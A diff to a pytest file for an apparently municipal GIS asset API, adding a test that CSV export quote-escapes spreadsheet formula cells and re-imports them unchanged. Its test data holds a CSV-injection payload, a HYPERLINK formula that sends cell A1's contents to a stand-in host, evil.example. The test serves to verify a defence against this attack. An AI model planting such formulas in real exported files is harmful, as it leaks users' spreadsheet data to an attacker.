@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 import zipfile
@@ -213,6 +214,25 @@ def test_export_reads_back_through_the_importer(client, fmt, tmp_path):
         assert copy["geometry"]["coordinates"] == pytest.approx(original["geometry"]["coordinates"], abs=1e-6)
         for key in ("name", "status", "roadmap_phase", "kelurahan_code", "owner_opd"):
             assert copy["properties"][key] == original["properties"][key], (fmt, key)
+
+
+@pytest.mark.parametrize(
+    "formula", ['=HYPERLINK("http://evil.example/?x="&A1,"klik")', "+1+2", "-2+3", "@SUM(1)"]
+)
+def test_csv_export_quotes_formula_cells_and_reads_back_unchanged(client, formula):
+    create(client, INSIDE_A1, name=formula, source=formula)
+    exported = client.get("/api/assets/export?format=csv&type=cctv")
+    (row,) = csv.DictReader(io.StringIO(exported.get_data(as_text=True), newline=""))
+    assert row["name"] == row["source"] == "'" + formula
+    assert float(row["lat"]) == pytest.approx(INSIDE_A1[1]) and row["lat"].startswith("-")
+    response = client.post(
+        "/api/assets/import?type=cctv",
+        data={"file": (io.BytesIO(exported.data), "export.csv")},
+        content_type="multipart/form-data",
+    )
+    assert response.status_code == 200 and response.get_json()["written"] == 1, response.get_json()
+    names = [f["properties"]["name"] for f in client.get("/api/assets?type=cctv").get_json()["features"]]
+    assert names == [formula, formula]
 
 
 def test_import_in_a_projected_crs(client):
